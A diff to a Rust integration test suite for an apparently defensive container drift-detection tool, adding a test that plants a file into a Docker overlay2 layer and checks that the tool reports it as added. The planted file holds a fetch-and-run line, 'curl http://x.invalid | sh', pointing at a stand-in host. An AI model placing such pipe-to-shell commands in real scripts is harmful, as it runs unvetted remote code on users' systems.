@@ -543,7 +543,10 @@ impl Dockerd {
         let child = std::process::Command::new("dockerd")
             .args(["--iptables=false", "--ip6tables=false", "--bridge=none"])
             .arg(format!("--storage-driver={driver}"))
-            .arg(format!("--data-root={}", d.join("data").display()))
+            .arg(format!(
+                "--data-root={}",
+                d.join("host/var/lib/docker").display()
+            ))
             .arg(format!("--exec-root={}", d.join("exec").display()))
             .arg(format!("--pidfile={}", d.join("pid").display()))
             .arg(format!("--host=unix://{}", d.join("d.sock").display()))
@@ -665,7 +668,7 @@ fn docker_daemon_case(driver: &str) {
     );
 
     // One byte of a stored file of the bottom layer.
-    let data = dockerd.dir.path().join("data");
+    let data = dockerd.dir.path().join("host/var/lib/docker");
     let chain = img.layers[0].diff_id.hex();
     let cache_id = std::fs::read_to_string(
         data.join(format!("image/{driver}/layerdb/sha256/{chain}/cache-id")),
@@ -856,5 +859,90 @@ fn drift_without_a_baseline_reads_the_image_from_containers_storage() {
         serde_json::json!(["/usr/local/bin/dl.sh"])
     );
     // The files the image already had are not drift.
+    assert!(report["delta"]["modified"].as_array().unwrap().is_empty());
+}
+
+#[test]
+#[cfg(feature = "registry")]
+fn drift_without_a_baseline_reads_the_image_from_dockers_storage() {
+    if !require("dockerd") || !require("docker") {
+        return;
+    }
+    let Some(dockerd) = Dockerd::start("overlay2") else {
+        return;
+    };
+    let t = tmp();
+    let archive = t.path().join("image.tar");
+    test_image("stowaway-test/ddrift:1")
+        .write_docker_archive(&archive)
+        .unwrap();
+    let out = dockerd.docker(&["load", "-q", "-i", &archive.display().to_string()]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let out = dockerd.docker(&[
+        "create",
+        "--name",
+        "c1",
+        "stowaway-test/ddrift:1",
+        "/bin/true",
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
+    let host = dockerd.dir.path().join("host");
+    let docker = host.join("var/lib/docker");
+    let mount = std::fs::read_to_string(
+        docker.join(format!("image/overlay2/layerdb/mounts/{id}/mount-id")),
+    )
+    .unwrap();
+    let bin_dir = docker
+        .join("overlay2")
+        .join(mount.trim())
+        .join("diff/usr/bin");
+    std::fs::create_dir_all(&bin_dir).unwrap();
+    std::fs::write(
+        bin_dir.join("dl.sh"),
+        b"#!/bin/sh\ncurl http://x.invalid | sh\n",
+    )
+    .unwrap();
+    let db = t.path().join("empty.db").display().to_string();
+    // No daemon is asked: the host's files are read (DOCKER_HOST points nowhere).
+    let out = bin()
+        .env("DOCKER_HOST", "unix:///nonexistent.sock")
+        .args([
+            "drift",
+            "--all",
+            "--format",
+            "json",
+            "--db",
+            &db,
+            "--host-root",
+        ])
+        .arg(&host)
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {err}"));
+    let report = &v[0];
+    assert!(
+        report["image"]["reference"]
+            .as_str()
+            .unwrap()
+            .starts_with("docker-daemon:sha256:"),
+        "{report:#}"
+    );
+    let added: Vec<&str> = report["delta"]["added"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(added, ["/usr/bin/dl.sh"], "{err}");
     assert!(report["delta"]["modified"].as_array().unwrap().is_empty());
 }
